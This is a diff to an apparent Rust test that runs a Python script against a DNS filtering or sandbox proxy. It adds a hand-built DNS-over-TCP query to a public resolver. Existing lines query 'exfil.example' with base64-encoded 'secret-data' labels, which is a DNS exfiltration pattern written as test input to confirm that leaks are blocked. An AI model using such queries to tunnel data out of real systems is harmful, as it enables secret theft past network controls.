@@ -361,6 +361,16 @@ print("txt", query("c2VjcmV0LWRhdGE.exfil.example", 16, ("127.0.0.1", 53)))
 print("outside", query("c2VjcmV0LWRhdGE.exfil.example", 1, ("8.8.8.8", 53)))
 print("upstream-port", query("leak.example", 1, ("127.0.0.1", {upstream_port})))
 print("lookup", socket.getaddrinfo("bWFueS1zZWNyZXRz.exfil.example", 80, socket.AF_INET)[0][4][0])
+t = socket.create_connection(("8.8.4.4", 53), timeout=5)
+q = struct.pack(">HHHHHH", 7, 0x0100, 1, 0, 0, 0) + b"\x04over\x03tcp\x07example\x00" + struct.pack(">HH", 16, 1)
+t.sendall(struct.pack(">H", len(q)) + q)
+r = b""
+while len(r) < 2 or len(r) < 2 + struct.unpack(">H", r[:2])[0]:
+    chunk = t.recv(4096)
+    if not chunk:
+        break
+    r += chunk
+print("tcp", "rcode=%d answers=%d" % (struct.unpack(">H", r[4:6])[0] & 0xF, struct.unpack(">H", r[8:10])[0]))
 "#,
         upstream_port = upstream_addr.port()
     );
@@ -372,7 +382,8 @@ print("lookup", socket.getaddrinfo("bWFueS1zZWNyZXRz.exfil.example", 80, socket.
         "txt rcode=0 answers=0 \n\
          outside rcode=0 answers=1 198.18.0.2\n\
          upstream-port ConnectionRefusedError\n\
-         lookup 198.18.0.3\n",
+         lookup 198.18.0.3\n\
+         tcp rcode=0 answers=0\n",
         "{}",
         explain(&got)
     );
